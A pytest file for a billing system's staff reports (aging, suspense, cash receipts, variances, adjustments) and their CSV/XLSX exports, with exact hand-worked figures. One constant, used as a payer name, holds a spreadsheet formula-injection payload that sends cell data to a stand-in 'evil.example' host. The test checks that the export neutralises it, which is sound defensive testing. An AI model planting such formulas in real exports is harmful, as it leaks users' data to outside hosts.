"""Staff reports on a small book worked out by hand: every figure exact to the cent at chosen
dates, filters, sorting, and the CSV/XLSX downloads read back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from billing_core import reports
from billing_core.exports import csv_bytes, xlsx_bytes
from billing_core.ledger.receivables import AGING_KEYS, aging_by_group
from billing_core.models import Adjustment, Invoice, SuspenseItem
from billing_core.models.enums import (
    AdjustmentStatus,
    BillingMethod,
    InvoiceStatus,
    PaymentMethod,
    PaymentSource,
    PayrollFrequency,
    SuspenseStatus,
)
from billing_core.money import D, percent
from billing_core.payments.receipts import record_payment, return_payment
from billing_core.reports.aging import aging_rows
from billing_core.reports.suspense_aging import SUSPENSE_COLUMNS, SUSPENSE_KEYS
from tests.factories import make_group, make_invoice

JAN_31 = date(2027, 1, 31)
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


def pay(session, group, amount, on, method=PaymentMethod.CHECK, **kw):
    payment, _ = record_payment(
        session,
        group=group,
        amount=D(amount),
        method=method,
        received_on=on,
        source=PaymentSource.STAFF,
        **kw,
    )
    return payment


@pytest.fixture
def book(session):
    """Alpha owes three invoices (300.00 due Aug 1 2026, 200.00 due Nov 15, 100.00 due Jan 1
    2027) and pays 50.00 + 25.00 on Jan 20 (oldest first) and 40.00 by wire on Jan 22 that
    comes back on Jan 25. Beta paid 100.00 on Dec 1 before any bill (credit) and is billed
    80.00 due Jan 31. Suspense: a 99.99 check of Oct 1 2026 and a 1,234.56 lockbox item of
    Jan 10 2027 from a payer whose name looks like a formula. A pending ACH debit never counts."""
    alpha = make_group(session, name="Alpha Tools", group_number="R-ALPHA")
    beta = make_group(session, name="beta Foods", group_number="R-BETA")
    make_invoice(session, alpha, D("300.00"), date(2026, 8, 1))
    make_invoice(session, alpha, D("200.00"), date(2026, 11, 15))
    make_invoice(session, alpha, D("100.00"), date(2027, 1, 1))
    pay(session, beta, "100.00", date(2026, 12, 1), reference="B-1")
    make_invoice(session, beta, D("80.00"), JAN_31)
    pay(session, alpha, "50.00", date(2027, 1, 20), reference="CHK-1")
    pay(session, alpha, "25.00", date(2027, 1, 20), method=PaymentMethod.ACH_CREDIT)
    wire = pay(session, alpha, "40.00", date(2027, 1, 22), method=PaymentMethod.WIRE)
    return_payment(session, wire, on=date(2027, 1, 25), reason="ach_return")
    pay(session, None, "99.99", date(2026, 10, 1), payer_name="Old Payer", reference="OLD-7")
    pay(
        session,
        None,
        "1234.56",
        date(2027, 1, 10),
        method=PaymentMethod.LOCKBOX,
        payer_name=EVIL,
        reference="LBX-1",
    )
    pay(session, alpha, "70.00", date(2027, 1, 20), method=PaymentMethod.ACH_DEBIT, pending=True)
    session.flush()
    return alpha, beta


def run(session, name, today=JAN_31, **args):
    return reports.run_report(session, reports.REPORTS[name], args, today)


def by_group(rows):
    return {r["group_number"]: r for r in rows}


# --------------------------------------------------------------------------- aging

BUCKETS = AGING_KEYS


def buckets(row):
    return [row[k] for k in BUCKETS]


def test_aging_as_of_month_end(session, book):
    result = run(session, "aging", as_of="2027-01-31").result
    rows = by_group(result.rows)
    alpha, beta = rows["R-ALPHA"], rows["R-BETA"]
    # 100.00 is 30 days past due, 200.00 is 77, 300.00 - 75.00 paid is 183 (the wire came back).
    assert buckets(alpha) == [
        D("0.00"),
        D("100.00"),
        D("0.00"),
        D("200.00"),
        D("0.00"),
        D("225.00"),
    ]
    assert (alpha["total_open"], alpha["credit"], alpha["net_balance"]) == (
        D("525.00"),
        D("0.00"),
        D("525.00"),
    )
    assert alpha["past_due_percent"] == D("100.00")
    assert buckets(beta) == [D("80.00")] + [D("0.00")] * 5
    assert (beta["credit"], beta["net_balance"], beta["past_due_percent"]) == (
        D("100.00"),
        D("-20.00"),
        D("0.00"),
    )
    totals = result.totals
    assert totals["group_number"] == "Total"
    assert [totals[k] for k in BUCKETS] == [
        D("80.00"),
        D("100.00"),
        D("0.00"),
        D("200.00"),
        D("0.00"),
        D("225.00"),
    ]
    assert (totals["total_open"], totals["credit"], totals["net_balance"]) == (
        D("605.00"),
        D("100.00"),
        D("505.00"),
    )
    assert totals["past_due_percent"] == D("86.78")  # 525 / 605


@pytest.mark.parametrize(
    ("as_of", "alpha_buckets", "beta"),
    [
        # Before Beta's payment; the Aug 1 invoice is 121 days past due, Nov 15's 15.
        (date(2026, 11, 30), ["0.00", "200.00", "0.00", "0.00", "0.00", "300.00"], None),
        # Before the Jan 20 payments: nothing paid yet; Beta only has its credit.
        (date(2027, 1, 19), ["0.00", "100.00", "0.00", "200.00", "0.00", "300.00"], "0.00"),
        # After the wire, before it came back: 300 - 50 - 25 - 40.
        (date(2027, 1, 23), ["0.00", "100.00", "0.00", "200.00", "0.00", "185.00"], "0.00"),
        # Beta's invoice is now 33 days past due; Jan 1 is 63, Nov 15 110.
        (date(2027, 3, 5), ["0.00", "0.00", "0.00", "100.00", "200.00", "225.00"], "80.00"),
    ],
)
def test_aging_at_other_dates(session, book, as_of, alpha_buckets, beta):
    rows = by_group(aging_rows(session, as_of))
    assert buckets(rows["R-ALPHA"]) == [D(x) for x in alpha_buckets]
    if beta is None:
        assert "R-BETA" not in rows
    else:
        assert rows["R-BETA"]["total_open"] == D(beta)
        assert rows["R-BETA"]["credit"] == D("100.00")


@pytest.mark.parametrize(
    ("days", "bucket"),
    [(0, 0), (1, 1), (30, 1), (31, 2), (60, 2), (61, 3), (90, 3), (91, 4), (120, 4)]
    + [(121, 5), (400, 5)],
)
def test_aging_bucket_edges(session, days, bucket):
    group = make_group(session, group_number="R-EDGE")
    due = date(2026, 6, 1)
    make_invoice(session, group, D("12.34"), due)
    row = by_group(aging_rows(session, due + timedelta(days=days)))
    expected = [D("0.00")] * 6
    expected[bucket] = D("12.34")
    assert buckets(row["R-EDGE"]) == expected


@pytest.mark.parametrize("as_of", [date(2026, 11, 30), date(2027, 1, 23), JAN_31, date(2027, 6, 1)])
def test_aging_ties_to_the_receivables_module(session, book, as_of):
    """The report and receivables.aging_by_group (both on receivables.aging_columns) agree."""
    rows = {r["group_id"]: r for r in aging_rows(session, as_of)}
    for group_id, aging in aging_by_group(session, as_of).items():
        assert buckets(rows[group_id]) == aging.buckets
        assert rows[group_id]["past_due"] == aging.past_due


def test_aging_filters(session, book):
    assert [r["group_number"] for r in run(session, "aging", group="alpha").rows] == ["R-ALPHA"]
    assert [r["group_number"] for r in run(session, "aging", group="r-beta").rows] == ["R-BETA"]
    past_due = run(session, "aging", show="past_due")
    assert [r["group_number"] for r in past_due.rows] == ["R-ALPHA"]
    assert past_due.result.totals["total_open"] == D("525.00")


def test_balances_over_90_days(session, book):
    result = run(session, "over_90", as_of="2027-01-31").result
    assert [r["group_number"] for r in result.rows] == ["R-ALPHA"]
    alpha = result.rows[0]
    assert (alpha["over_90"], alpha["days_91_120"], alpha["over_120"]) == (
        D("225.00"),
        D("0.00"),
        D("225.00"),
    )
    assert (alpha["oldest_due_on"], alpha["days_past_due"]) == (date(2026, 8, 1), 183)
    assert result.totals["over_90"] == D("225.00")
    # On Mar 5 the Nov 15 invoice is 110 days past due too.
    later = run(session, "over_90", as_of="2027-03-05").rows[0]
    assert later["over_90"] == D("425.00")
    # Before any invoice passed 90 days, nobody is listed.
    assert run(session, "over_90", as_of="2026-10-30").rows == []


# --------------------------------------------------------------------------- suspense


def test_suspense_aging(session, book):
    result = run(session, "suspense_aging", as_of="2027-01-31").result
    assert [(r["received_on"], r["days_open"]) for r in result.rows] == [
        (date(2026, 10, 1), 122),
        (date(2027, 1, 10), 21),
    ]
    old, new = result.rows
    assert (old["over_90"], old["days_0_30"], old["amount"]) == (D("99.99"), None, D("99.99"))
    assert (new["days_0_30"], new["method"], new["payer_name"]) == (D("1234.56"), "Lockbox", EVIL)
    totals = result.totals
    assert [totals[k] for k in SUSPENSE_KEYS] == [
        D("1234.56"),
        D("0.00"),
        D("0.00"),
        D("99.99"),
    ]
    assert totals["amount"] == D("1334.55")
    # On Jan 5 the lockbox item had not arrived; the old check was 96 days in suspense.
    early = run(session, "suspense_aging", as_of="2027-01-05").rows
    assert [(r["reference"], r["days_open"]) for r in early] == [("OLD-7", 96)]
    assert [r["reference"] for r in run(session, "suspense_aging", method="lockbox").rows] == [
        "LBX-1"
    ]


def test_suspense_item_resolved_later_was_open_before(session, book):
    item = session.query(SuspenseItem).join(SuspenseItem.payment).filter_by(reference="OLD-7").one()
    item.status = SuspenseStatus.APPLIED
    item.resolved_at = datetime(2027, 2, 3, 15, 0, tzinfo=UTC)
    session.flush()
    refs = [r["reference"] for r in run(session, "suspense_aging", as_of="2027-02-02").rows]
    assert refs == ["OLD-7", "LBX-1"]
    refs = [r["reference"] for r in run(session, "suspense_aging", as_of="2027-02-03").rows]
    assert refs == ["LBX-1"]


# --------------------------------------------------------------------------- cash receipts


def test_cash_receipts_by_day_and_method(session, book):
    result = run(session, "cash_receipts", date_from="2027-01-01", date_to="2027-01-31").result
    assert [
        (r["received_on"], r["method"], r["payments"], r["received"], r["returned"], r["net"])
        for r in result.rows
    ] == [
        (date(2027, 1, 10), "Lockbox", 1, D("1234.56"), D("0.00"), D("1234.56")),
        (date(2027, 1, 20), "ACH credit", 1, D("25.00"), D("0.00"), D("25.00")),
        (date(2027, 1, 20), "Check", 1, D("50.00"), D("0.00"), D("50.00")),
        (date(2027, 1, 22), "Wire", 1, D("40.00"), D("40.00"), D("0.00")),
    ]
    totals = result.totals
    assert (totals["payments"], totals["received"], totals["returned"], totals["net"]) == (
        4,
        D("1349.56"),
        D("40.00"),
        D("1309.56"),
    )


def test_cash_receipts_filters(session, book):
    january = {"date_from": "2027-01-01", "date_to": "2027-01-31"}
    checks = run(session, "cash_receipts", method="check", **january).rows
    assert [(r["received_on"], r["received"]) for r in checks] == [(date(2027, 1, 20), D("50.00"))]
    alpha = run(session, "cash_receipts", group="R-ALPHA", **january).result
    assert alpha.totals["received"] == D("115.00")  # no suspense cash
    december = run(session, "cash_receipts", date_from="2026-12-01", date_to="2026-12-31")
    assert [(r["method"], r["received"]) for r in december.rows] == [("Check", D("100.00"))]
    one_day = run(session, "cash_receipts", date_from="2027-01-20", date_to="2027-01-20")
    assert one_day.result.totals["received"] == D("75.00")


# --------------------------------------------------------------------------- variances


def _self_bill_invoice(session, group, period, billed, reported, **kw):
    invoice = Invoice(
        invoice_number=f"SB-{group.group_number}-{period:%Y%m}{kw.pop('suffix', '')}",
        group_id=group.id,
        billing_method=kw.pop("method", BillingMethod.SELF_BILL),
        period_start=period,
        period_end=period.replace(day=28),
        issued_on=period - timedelta(days=15),
        due_on=period,
        current_premium=D(billed),
        total_due=D(billed),
        reported_premium=D(reported),
        **kw,
    )
    session.add(invoice)
    session.flush()
    return invoice


def test_reconciliation_variances(session):
    monthly = make_group(session, name="Self Monthly", group_number="R-SBM")
    biweekly = make_group(session, name="Self Biweekly", group_number="R-SBB")
    biweekly.policies[0].payroll_frequency = PayrollFrequency.BI_WEEKLY
    _self_bill_invoice(session, monthly, date(2027, 1, 1), "1000.00", "1040.00")
    _self_bill_invoice(session, monthly, date(2027, 2, 1), "1000.00", "900.00")
    # Two bi-weekly deductions of 461.54 stand for 923.08 x 26 / 24 = 1,000.00 a month.
    _self_bill_invoice(session, biweekly, date(2027, 1, 1), "1000.00", "923.08")
    # Left out: a list bill, a void invoice, a month outside the range.
    _self_bill_invoice(
        session,
        monthly,
        date(2027, 1, 1),
        "5.00",
        "9.00",
        method=BillingMethod.LIST_BILL,
        suffix="L",
    )
    _self_bill_invoice(
        session,
        monthly,
        date(2027, 1, 1),
        "7.00",
        "1.00",
        suffix="V",
        status=InvoiceStatus.VOID,
        void_reason="test",
        voided_at=datetime(2027, 1, 2, tzinfo=UTC),
    )
    _self_bill_invoice(session, monthly, date(2026, 6, 1), "1000.00", "1.00")
    result = run(session, "variances", period_from="2027-01", period_to="2027-02").result
    got = {
        (r["group_number"], r["period"]): (
            r["billed"],
            r["reported"],
            r["variance"],
            r["variance_percent"],
            r["tolerance"],
        )
        for r in result.rows
    }
    assert got == {
        ("R-SBM", date(2027, 1, 1)): (D("1000.00"), D("1040.00"), D("40.00"), D("4.00"), "Within"),
        ("R-SBM", date(2027, 2, 1)): (
            D("1000.00"),
            D("900.00"),
            D("-100.00"),
            D("-10.00"),
            "Outside",
        ),
        ("R-SBB", date(2027, 1, 1)): (D("1000.00"), D("1000.00"), D("0.00"), D("0.00"), "Within"),
    }
    # Default sort: largest variance percent first.
    assert [r["variance_percent"] for r in result.rows] == [D("4.00"), D("0.00"), D("-10.00")]
    assert result.totals["variance"] == D("-60.00")
    assert result.totals["variance_percent"] == D("-2.00")
    outside = run(session, "variances", period_from="2027-01", period_to="2027-02", show="outside")
    assert [r["invoice_number"] for r in outside.rows] == ["SB-R-SBM-202702"]


# --------------------------------------------------------------------------- adjustments


def _adjustment(session, group, amount, reason, status, queued):
    session.add(
        Adjustment(
            group_id=group.id,
            coverage_month=date(2026, 12, 1),
            amount=D(amount),
            reason_code=reason,
            source_type="manual",
            status=status,
            created_at=queued,
        )
    )


def test_adjustments_by_reason_and_status(session):
    group = make_group(session, name="Adjusted Co", group_number="R-ADJ")
    other = make_group(session, name="Other Co", group_number="R-OTH")
    jan = lambda day, hour=12: datetime(2027, 1, day, hour, tzinfo=UTC)  # noqa: E731
    _adjustment(session, group, "112.40", "late_add", AdjustmentStatus.APPROVED, jan(12))
    _adjustment(session, group, "38.20", "late_add", AdjustmentStatus.APPROVED, jan(15))
    _adjustment(session, group, "-38.20", "late_term", AdjustmentStatus.PENDING, jan(10))
    _adjustment(session, group, "5.00", "late_term", AdjustmentStatus.PENDING, jan(31, 23))
    _adjustment(session, other, "-10.00", "tier_change", AdjustmentStatus.REJECTED, jan(20))
    # Outside the range: Dec 31 and Feb 1 (UTC).
    _adjustment(
        session,
        group,
        "1.00",
        "late_add",
        AdjustmentStatus.APPROVED,
        jan(1, 0) - timedelta(seconds=1),
    )
    _adjustment(
        session,
        group,
        "2.00",
        "late_add",
        AdjustmentStatus.APPROVED,
        datetime(2027, 2, 1, tzinfo=UTC),
    )
    session.flush()
    january = {"date_from": "2027-01-01", "date_to": "2027-01-31"}
    result = run(session, "adjustments", **january).result
    assert [
        (r["reason"], r["status"], r["count"], r["charges"], r["credits"], r["net"])
        for r in result.rows
    ] == [
        ("Coverage tier change", "Rejected", 1, D("0.00"), D("-10.00"), D("-10.00")),
        ("Late-reported addition", "Approved", 2, D("150.60"), D("0.00"), D("150.60")),
        ("Late-reported termination", "Pending", 2, D("5.00"), D("-38.20"), D("-33.20")),
    ]
    totals = result.totals
    assert (totals["count"], totals["charges"], totals["credits"], totals["net"]) == (
        5,
        D("155.60"),
        D("-48.20"),
        D("107.40"),
    )
    pending = run(session, "adjustments", status="pending", **january).rows
    assert [(r["reason"], r["net"]) for r in pending] == [
        ("Late-reported termination", D("-33.20"))
    ]
    mine = run(session, "adjustments", group="R-ADJ", **january).result
    assert mine.totals["net"] == D("117.40")


# --------------------------------------------------------------------------- framework


def test_every_report_runs_with_its_defaults_on_an_empty_book(session):
    for report in reports.REPORTS.values():
        result = reports.run_report(session, report, {}, JAN_31)
        assert result.errors == {}, report.name
        assert result.rows == [], report.name


def test_defaults_are_relative_to_today(session):
    run_ = reports.run_report(session, reports.REPORTS["cash_receipts"], {}, date(2027, 3, 14))
    assert run_.filters["date_from"] == date(2027, 3, 1)
    assert run_.filters["date_to"] == date(2027, 3, 14)
    aging = reports.run_report(session, reports.REPORTS["aging"], {}, date(2027, 3, 14))
    assert aging.filters["as_of"] == date(2027, 3, 14)


@pytest.mark.parametrize(
    ("name", "args", "field"),
    [
        ("aging", {"as_of": "31/01/2027"}, "as_of"),
        ("aging", {"show": "everything"}, "show"),
        ("cash_receipts", {"date_from": "2027-02-01", "date_to": "2027-01-01"}, "date_to"),
        ("variances", {"period_from": "2027-13"}, "period_from"),
        ("cash_receipts", {"method": "bitcoin"}, "method"),
    ],
)
def test_bad_filters_are_reported_not_run(session, name, args, field):
    result = reports.run_report(session, reports.REPORTS[name], args, JAN_31)
    assert field in result.errors
    assert result.result is None


def test_sorting(session, book):
    rows = run(session, "aging", sort="-total_open").rows
    assert [r["group_number"] for r in rows] == ["R-ALPHA", "R-BETA"]
    rows = run(session, "aging", sort="net_balance").rows
    assert [r["group_number"] for r in rows] == ["R-BETA", "R-ALPHA"]
    # Text sorts without regard to case ("beta Foods" after "Alpha Tools").
    rows = run(session, "aging", sort="group_name").rows
    assert [r["group_name"] for r in rows] == ["Alpha Tools", "beta Foods"]
    rows = run(session, "aging", sort="-group_name").rows
    assert [r["group_name"] for r in rows] == ["beta Foods", "Alpha Tools"]
    # An unknown column falls back to the report's default sort.
    fallback = run(session, "aging", sort="password")
    assert (fallback.sort_key, fallback.descending) == ("group_number", False)


def test_sort_puts_empty_values_last_both_ways():
    rows = [{"v": D("2")}, {"v": None}, {"v": D("-1")}, {"v": D("5")}]
    assert [r["v"] for r in reports.sort_rows(rows, "v")] == [D("-1"), D("2"), D("5"), None]
    assert [r["v"] for r in reports.sort_rows(rows, "v", True)] == [D("5"), D("2"), D("-1"), None]


def test_register_refuses_duplicates_and_bad_default_sort():
    existing = reports.REPORTS["aging"]
    with pytest.raises(ValueError, match="already registered"):
        reports.register(existing)
    with pytest.raises(ValueError, match="not a column"):
        reports.register(
            reports.Report(
                name="new_one",
                title="New",
                description="",
                columns=(reports.ReportColumn("a", "A"),),
                filters=(),
                rows=lambda session, filters: reports.ReportResult([]),
                default_sort="b",
            )
        )
    assert "new_one" not in reports.REPORTS


# --------------------------------------------------------------------------- exports


def test_csv_download_reads_back_typed_and_safe(session, book):
    run_ = run(session, "suspense_aging", as_of="2027-01-31", sort="-amount")
    sheet = reports.report_sheet(run_)
    text = csv_bytes(sheet.columns, sheet.rows).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == [c.header for c in SUSPENSE_COLUMNS]
    assert len(lines) == 3  # no totals row in the CSV
    first = dict(zip(lines[0], lines[1], strict=True))
    assert first["Payer"] == "'" + EVIL  # neutralised: opens as text, not a formula
    assert first["Received"] == "2027-01-10"
    assert first["Amount"] == "1234.56"
    assert first["0–30 days"] == "1234.56"
    assert first["Over 90 days"] == ""
    assert first["Days in suspense"] == "21"


def test_xlsx_download_has_numbers_dates_totals_and_filters(session, book):
    run_ = run(session, "aging", as_of="2027-01-31", sort="-total_open")
    workbook = load_workbook(io.BytesIO(xlsx_bytes(reports.report_sheets(run_, JAN_31))))
    assert workbook.sheetnames == ["Receivables aging", "Totals", "Filters"]
    rows = list(workbook["Receivables aging"].iter_rows(values_only=True))
    header = rows[0]
    alpha = dict(zip(header, rows[1], strict=True))
    assert alpha["Group"] == "R-ALPHA"
    assert alpha["Over 120 days"] == 225 and isinstance(alpha["Over 120 days"], int | float)
    assert alpha["Open receivable"] == 525
    assert alpha["% past due"] == 100
    beta = dict(zip(header, rows[2], strict=True))
    assert beta["Net balance"] == -20 and isinstance(beta["Net balance"], int | float)
    assert beta["% past due"] == 0
    totals = dict(
        zip(header, next(workbook["Totals"].iter_rows(min_row=2, values_only=True)), strict=True)
    )
    assert totals["Group"] == "Total"
    assert totals["Open receivable"] == 605
    assert totals["% past due"] == pytest.approx(86.78)
    filters = dict(workbook["Filters"].iter_rows(min_row=2, values_only=True))
    assert filters["As of"] == "2027-01-31"
    assert filters["Group"] == "All groups"
    assert filters["Sorted by"] == "Open receivable (high to low)"


def test_xlsx_cash_receipts_dates_are_dates(session, book):
    run_ = run(session, "cash_receipts", date_from="2027-01-01", date_to="2027-01-31")
    workbook = load_workbook(io.BytesIO(xlsx_bytes(reports.report_sheets(run_, JAN_31))))
    first = next(workbook["Cash receipts"].iter_rows(min_row=2, values_only=True))
    assert first[0] == datetime(2027, 1, 10)
    assert first[2] == 1 and first[3] == pytest.approx(1234.56)


def test_download_names(session):
    assert reports.download_name(run(session, "aging", as_of="2027-01-31"), "csv") == (
        "aging-2027-01-31.csv"
    )
    name = reports.download_name(
        run(session, "cash_receipts", date_from="2027-01-01", date_to="2027-01-31"), "xlsx"
    )
    assert name == "cash_receipts-2027-01-01-to-2027-01-31.xlsx"


def test_percent_helper():
    assert percent(D("1"), D("3")) == D("33.33")
    assert percent(D("2"), D("3")) == D("66.67")
    assert percent(D("5"), D("0")) is None
    assert percent(D("-5"), D("-10")) == D("-50.00")
    assert isinstance(percent(D("1"), D("8")), Decimal)
